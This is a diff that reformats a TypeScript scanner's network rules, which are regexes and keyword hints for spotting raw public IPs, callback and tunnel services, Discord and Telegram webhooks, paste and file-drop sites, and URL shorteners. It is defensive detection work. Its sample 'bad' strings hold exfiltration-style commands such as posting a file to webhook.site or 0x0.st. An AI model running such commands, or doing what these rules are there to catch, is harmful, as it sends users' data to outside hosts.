@@ -1,7 +1,10 @@
 import type { Rule } from "#lib/runtime/scan/rule";
 
 const OCTET = String.raw`(?:25[0-5]|2[0-4]\d|1?\d?\d)`;
-const PUBLIC_ADDRESS = new RegExp(String.raw`\b(?:https?|wss?|ftp|tcp|udp):\/\/(?:[^\s/@"'<>]{1,60}@)?(?!(?:127|10|0)\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.|255\.)${OCTET}(?:\.${OCTET}){3}(?![\w.-])`, "i");
+const PUBLIC_ADDRESS = new RegExp(
+  String.raw`\b(?:https?|wss?|ftp|tcp|udp):\/\/(?:[^\s/@"'<>]{1,60}@)?(?!(?:127|10|0)\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.|255\.)${OCTET}(?:\.${OCTET}){3}(?![\w.-])`,
+  "i",
+);
 const ODD_ADDRESS = /\b(?:https?|ftp):\/\/(?:0x[0-9a-f]{6,8}|\d{8,10}|0[0-7]{2,4}(?:\.0?[0-7]{1,4}){3})(?=[/:\s"']|$)/im;
 const DECLARE = "Reach hosts by name, and declare them under metadata: clanker-network.";
 
@@ -19,7 +22,14 @@ export const NETWORK: Rule[] = [
     declared: "low",
     hints: ["://"],
     match: { any: [PUBLIC_ADDRESS, ODD_ADDRESS] },
-    samples: { bad: ["curl http://203.0.113.7/a", { path: "scripts/a.py", text: "import requests\nrequests.get('http://198.51.100.4:8080/gate')" }, "wget http://0xC0000201/a"], good: ["curl http://127.0.0.1:8080/health", "curl http://192.168.1.10/", "ping 203.0.113.7", "curl https://1.2.3.4.good.example/"] },
+    samples: {
+      bad: [
+        "curl http://203.0.113.7/a",
+        { path: "scripts/a.py", text: "import requests\nrequests.get('http://198.51.100.4:8080/gate')" },
+        "wget http://0xC0000201/a",
+      ],
+      good: ["curl http://127.0.0.1:8080/health", "curl http://192.168.1.10/", "ping 203.0.113.7", "curl https://1.2.3.4.good.example/"],
+    },
   },
   {
     id: "network/metadata-service",
@@ -45,9 +55,37 @@ export const NETWORK: Rule[] = [
     reaches: true,
     fenced: "medium",
     declared: "medium",
-    hints: ["webhook", "requestbin", "pipedream", "ngrok", "interact.sh", "oast", "burpcollab", "beeceptor", "hookbin", "trycloudflare", "serveo", "loca.lt", "requestcatcher", "canarytokens", "dnslog", "localhost.run", "pinggy"],
-    match: { any: [/\b(?:webhook\.site|requestbin\.(?:com|net|io)|m\.pipedream\.net|[\w-]{1,60}\.ngrok(?:-free)?\.(?:io|app|dev)|interact\.sh|oast\.(?:fun|live|me|online|pro|site)|burpcollaborator\.net|[\w-]{1,60}\.(?:beeceptor\.com|trycloudflare\.com|serveo\.net|loca\.lt|requestcatcher\.com|lhr\.life|pinggy\.link)|hookb\.in|canarytokens\.com|dnslog\.cn)\b/i] },
-    samples: { bad: ["curl -d @f https://webhook.site/00000000-aaaa", { path: "scripts/a.py", text: "import requests\nrequests.get('https://abc123.ngrok-free.app/in')" }], good: ["curl https://api.good.example/webhook"] },
+    hints: [
+      "webhook",
+      "requestbin",
+      "pipedream",
+      "ngrok",
+      "interact.sh",
+      "oast",
+      "burpcollab",
+      "beeceptor",
+      "hookbin",
+      "trycloudflare",
+      "serveo",
+      "loca.lt",
+      "requestcatcher",
+      "canarytokens",
+      "dnslog",
+      "localhost.run",
+      "pinggy",
+    ],
+    match: {
+      any: [
+        /\b(?:webhook\.site|requestbin\.(?:com|net|io)|m\.pipedream\.net|[\w-]{1,60}\.ngrok(?:-free)?\.(?:io|app|dev)|interact\.sh|oast\.(?:fun|live|me|online|pro|site)|burpcollaborator\.net|[\w-]{1,60}\.(?:beeceptor\.com|trycloudflare\.com|serveo\.net|loca\.lt|requestcatcher\.com|lhr\.life|pinggy\.link)|hookb\.in|canarytokens\.com|dnslog\.cn)\b/i,
+      ],
+    },
+    samples: {
+      bad: [
+        "curl -d @f https://webhook.site/00000000-aaaa",
+        { path: "scripts/a.py", text: "import requests\nrequests.get('https://abc123.ngrok-free.app/in')" },
+      ],
+      good: ["curl https://api.good.example/webhook"],
+    },
   },
   {
     id: "network/chat-channel",
@@ -61,7 +99,13 @@ export const NETWORK: Rule[] = [
     declared: "low",
     hints: ["discord", "telegram"],
     match: { any: [/\bdiscord(?:app)?\.com\/api\/webhooks\/\d{5,20}/i, /\bapi\.telegram\.org\/bot/i] },
-    samples: { bad: ["curl -d content=hi https://discord.com/api/webhooks/123456789/abc", { path: "scripts/a.py", text: "requests.post('https://api.telegram.org/bot' + T)" }], good: ["curl https://discord.com/developers"] },
+    samples: {
+      bad: [
+        "curl -d content=hi https://discord.com/api/webhooks/123456789/abc",
+        { path: "scripts/a.py", text: "requests.post('https://api.telegram.org/bot' + T)" },
+      ],
+      good: ["curl https://discord.com/developers"],
+    },
   },
   {
     id: "network/paste",
@@ -73,9 +117,31 @@ export const NETWORK: Rule[] = [
     strings: true,
     reaches: true,
     declared: "medium",
-    hints: ["paste", "rentry", "glot.io", "transfer.sh", "file.io", "0x0.st", "termbin", "ghostbin", "controlc", "gofile", "catbox", "anonfiles", "bashupload", "setup-service"],
-    match: { any: [/\b(?:pastebin\.com|paste\.(?:ee|rs|mozilla\.org)|hastebin\.com|rentry\.(?:co|org)|glot\.io\/snippets|transfer\.sh|file\.io|0x0\.st|termbin\.com|ghostbin\.\w{2,4}|controlc\.com|dpaste\.(?:com|org)|gofile\.io|(?:files|litterbox)\.catbox\.moe|anonfiles\.com|bashupload\.com|temp\.sh)\b/i] },
-    samples: { bad: ["curl -s https://pastebin.com/raw/abcd1234 -o a", "curl -F file=@a https://0x0.st"], good: ["curl https://api.good.example/pastes", "echo copy and paste"] },
+    hints: [
+      "paste",
+      "rentry",
+      "glot.io",
+      "transfer.sh",
+      "file.io",
+      "0x0.st",
+      "termbin",
+      "ghostbin",
+      "controlc",
+      "gofile",
+      "catbox",
+      "anonfiles",
+      "bashupload",
+      "setup-service",
+    ],
+    match: {
+      any: [
+        /\b(?:pastebin\.com|paste\.(?:ee|rs|mozilla\.org)|hastebin\.com|rentry\.(?:co|org)|glot\.io\/snippets|transfer\.sh|file\.io|0x0\.st|termbin\.com|ghostbin\.\w{2,4}|controlc\.com|dpaste\.(?:com|org)|gofile\.io|(?:files|litterbox)\.catbox\.moe|anonfiles\.com|bashupload\.com|temp\.sh)\b/i,
+      ],
+    },
+    samples: {
+      bad: ["curl -s https://pastebin.com/raw/abcd1234 -o a", "curl -F file=@a https://0x0.st"],
+      good: ["curl https://api.good.example/pastes", "echo copy and paste"],
+    },
   },
   {
     id: "network/shortener",
@@ -87,7 +153,11 @@ export const NETWORK: Rule[] = [
     strings: true,
     reaches: true,
     hints: ["bit.ly", "tinyurl", "t.co/", "is.gd", "goo.gl", "cutt.ly", "rb.gy", "shorturl", "ow.ly", "t.ly", "tiny.cc", "rebrand.ly", "v.gd"],
-    match: { any: [/(?:https?:\/\/|\s|["'])(?:www\.)?(?:bit\.ly|tinyurl\.com|t\.co|is\.gd|goo\.gl|cutt\.ly|rb\.gy|shorturl\.at|ow\.ly|t\.ly|tiny\.cc|rebrand\.ly|v\.gd)\/[\w-]{2,40}/i] },
+    match: {
+      any: [
+        /(?:https?:\/\/|\s|["'])(?:www\.)?(?:bit\.ly|tinyurl\.com|t\.co|is\.gd|goo\.gl|cutt\.ly|rb\.gy|shorturl\.at|ow\.ly|t\.ly|tiny\.cc|rebrand\.ly|v\.gd)\/[\w-]{2,40}/i,
+      ],
+    },
     samples: { bad: ["curl -L https://bit.ly/3abcDEF"], good: ["curl https://nota-bit.ly.good.example/x", "echo that.co/de"] },
   },
 ];
